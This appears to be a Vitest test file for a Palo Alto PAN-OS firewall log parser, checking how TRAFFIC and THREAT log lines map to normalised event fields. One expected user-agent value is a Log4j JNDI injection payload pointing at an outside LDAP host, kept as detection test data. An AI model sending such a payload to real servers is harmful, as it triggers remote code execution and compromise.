import { describe, expect, it } from 'vitest';
import { contractContext, fixtureLines, parserContract } from '../contract.ts';
import { runParser } from '../registry.ts';
import { paloaltoParser, splitCsv } from './paloalto.ts';

const ctx = contractContext();
const lines = fixtureLines('paloalto.log');

parserContract(paloaltoParser, 'paloalto.log');

const parse = (line: string) => {
  const r = runParser(paloaltoParser, line, ctx);
  if (!r.ok) throw new Error(`${r.error.code}: ${r.error.message}`);
  return r.event;
};

describe('paloalto TRAFFIC', () => {
  it('maps an end log with a BSD header, source NAT, zones, user and the zoned high-resolution time', () => {
    expect(parse(lines[0]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:00:05.123Z',
      event: {
        kind: 'event',
        category: ['network'],
        type: ['connection', 'end', 'allowed'],
        action: 'allow',
        outcome: 'success',
        reason: 'tcp-fin',
        duration: 32_000_000_000,
        // Start Time is firewall-local (+01:00), shifted by the offset learnt from the zoned stamp
        start: '2026-11-29T09:59:33.000Z',
        dataset: 'panos.traffic',
        module: 'panos',
      },
      observer: {
        vendor: 'Palo Alto Networks',
        product: 'PAN-OS',
        type: 'firewall',
        name: 'PA-5220-01',
        ingress: { interface: { name: 'ethernet1/2' } },
        egress: { interface: { name: 'ethernet1/1' } },
      },
      source: {
        ip: '10.1.20.15',
        port: 51234,
        bytes: 2210,
        packets: 14,
        nat: { ip: '198.51.100.10', port: 40211 },
        zone: 'trust',
        user: { name: 'acme\\jdoe' },
        mac: '00-1B-17-00-01-02',
      },
      destination: { ip: '203.0.113.80', port: 443, bytes: 16313, packets: 17, zone: 'untrust' },
      network: {
        transport: 'tcp',
        iana_number: '6',
        application: 'ssl',
        protocol: 'tls',
        bytes: 18523,
        packets: 31,
      },
      rule: { name: 'Allow-Outbound-Web', id: '6f1c2a9e-3b4d-4e5f-9a8b-7c6d5e4f3a21' },
    });
    // NAT Destination equal to the original destination is not a translation
    expect(parse(lines[0]!).destination?.nat).toBeUndefined();
  });

  it('reads a start log without header or zoned time as UTC and gives no duration', () => {
    const e = parse(lines[1]!);
    expect(e).toMatchObject({
      '@timestamp': '2026-11-29T10:00:59.000Z',
      event: { type: ['connection', 'start', 'allowed'], action: 'allow' },
      network: { application: 'web-browsing', protocol: 'http' },
    });
    expect(e.event.duration).toBeUndefined();
  });

  it('maps drop and deny subtypes to denied connections, without NAT or pseudo-applications', () => {
    const drop = parse(lines[2]!);
    expect(drop).toMatchObject({
      '@timestamp': '2026-11-29T10:02:10.450Z',
      event: { type: ['connection', 'denied'], action: 'drop', outcome: 'failure', reason: 'policy-deny' },
      observer: { name: 'PA-5220-01', hostname: 'PA-5220-01' },
      rule: { name: 'interzone-default' },
    });
    expect(drop.source?.nat).toBeUndefined();
    expect(drop.network?.application).toBeUndefined();
    expect(drop.observer?.egress).toBeUndefined();
    expect(parse(lines[3]!)).toMatchObject({
      event: { type: ['connection', 'denied'], action: 'reset-both', outcome: 'failure' },
      source: { ip: '2001:db8:10::25', port: 6881 },
      destination: { ip: '2001:db8:ffff::9', port: 51413 },
      network: { application: 'bittorrent' },
    });
  });

  it('keeps a quoted rule name with a comma and maps destination NAT', () => {
    expect(parse(lines[4]!)).toMatchObject({
      rule: { name: 'Inbound DNS, public' },
      destination: { ip: '198.51.100.53', port: 53, nat: { ip: '10.20.0.53', port: 53 }, zone: 'dmz' },
      network: { transport: 'udp', iana_number: '17', protocol: 'dns' },
    });
  });
});

describe('paloalto THREAT', () => {
  it('maps a vulnerability to an IDS alert with the threat as the rule and the severity word as 1..5', () => {
    expect(parse(lines[5]!)).toMatchObject({
      '@timestamp': '2026-11-29T10:05:00.001Z',
      event: {
        kind: 'alert',
        category: ['network', 'intrusion_detection'],
        type: ['denied'],
        action: 'reset-both',
        outcome: 'failure',
        severity: 5,
        dataset: 'panos.threat',
      },
      rule: {
        id: '91991',
        name: 'Apache Log4j Remote Code Execution Vulnerability',
        category: 'code-execution',
      },
      destination: { nat: { ip: '10.20.0.20', port: 8080 } },
      http: { request: { method: 'post' } },
      user_agent: { original: '$' + '{jndi:ldap://203.0.113.77:1389/a}' },
    });
  });

  it('takes the id from the last parentheses of a spyware name', () => {
    expect(parse(lines[6]!)).toMatchObject({
      event: { kind: 'alert', action: 'sinkhole', type: ['denied'], severity: 3 },
      rule: { id: '109010001', name: 'Suspicious Domain (generic:c2.example.net)', category: 'dns-c2' },
    });
  });

  it('maps virus and wildfire logs to malware with the file', () => {
    expect(parse(lines[7]!)).toMatchObject({
      event: { kind: 'alert', category: ['network', 'malware'], severity: 3 },
      rule: { id: '2210001', name: 'Virus/Win32.WGeneric.dkzjqx', category: 'virus' },
      file: { name: 'invoice_2026.exe' },
    });
    expect(parse(lines[11]!)).toMatchObject({
      event: { kind: 'alert', category: ['network', 'malware'], type: ['allowed'], severity: 4 },
      rule: { id: '52010', category: 'malicious' },
      file: {
        name: 'report_q4.pdf',
        hash: { sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' },
      },
    });
    // a benign WildFire verdict is not an alert
    expect(parse(lines[12]!)).toMatchObject({
      event: { kind: 'event', severity: 1 },
      rule: { category: 'benign' },
    });
  });

  it('splits a quoted URL with a comma into url fields, with the URL category as rule.category', () => {
    const e = parse(lines[8]!);
    expect(e).toMatchObject({
      event: {
        kind: 'event',
        category: ['network', 'web'],
        type: ['denied'],
        action: 'block-url',
        severity: 1,
      },
      rule: { id: '9999', category: 'phishing' },
      url: {
        original: 'login.example.org/verify.php?acct=1,2&next=/home',
        domain: 'login.example.org',
        path: '/verify.php',
        query: 'acct=1,2&next=/home',
      },
      http: { request: { method: 'get', referrer: 'http://mail.example.com/' } },
      user_agent: { original: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' },
    });
    expect(e.rule?.name).toBeUndefined();
    expect(parse(lines[9]!)).toMatchObject({
      event: { type: ['allowed'], action: 'alert', outcome: 'success' },
      url: { domain: '198.51.100.99', path: '/status' },
    });
  });

  it('maps a file-blocking log to a network event with the file name', () => {
    expect(parse(lines[10]!)).toMatchObject({
      event: { kind: 'event', category: ['network'], severity: 2 },
      rule: { id: '52020', name: 'Windows Executable (EXE)' },
      file: { name: 'setup.exe' },
    });
  });
});

describe('paloalto quirks and rejection', () => {
  it('splits CSV with quoted fields, doubled quotes and empty trailing fields', () => {
    expect(splitCsv('a,"b,c","say ""hi""",,')).toEqual(['a', 'b,c', 'say "hi"', '', '']);
    expect(splitCsv('"unterminated,x')).toBeNull();
  });

  it('reports other PAN-OS log types as unsupported', () => {
    const system =
      '1,2026/11/29 10:00:00,013201001234,SYSTEM,general,0,2026/11/29 10:00:00,,general,,0,0,general,informational,"User admin logged in",1,0x0,0,0,0,0,,PA-5220-01';
    expect(runParser(paloaltoParser, system, ctx)).toMatchObject({
      ok: false,
      error: { code: 'unsupported' },
    });
  });

  it('rejects lines that are not PAN-OS TRAFFIC/THREAT CSV, with a reason', () => {
    for (const bad of [
      'Nov 29 10:00:00 host sshd[1]: Accepted password for root',
      '1,2026/11/29 10:00:00,013201001234,TRAFFIC,end',
      lines[0]!.replace('10.1.20.15', 'not-an-ip'),
      lines[0]!.replace('2026/11/29 11:00:05,10.1.20.15', '29.11.2026 11:00,10.1.20.15'),
    ]) {
      const r = runParser(paloaltoParser, bad, ctx);
      expect(r.ok).toBe(false);
      if (!r.ok) {
        expect(r.error.code).toBe('syntax');
        expect(r.error.message.length).toBeGreaterThan(10);
      }
    }
    expect(paloaltoParser.sniff('date=2026-11-29 time=10:00:00 type="traffic"')).toBe(false);
  });
});
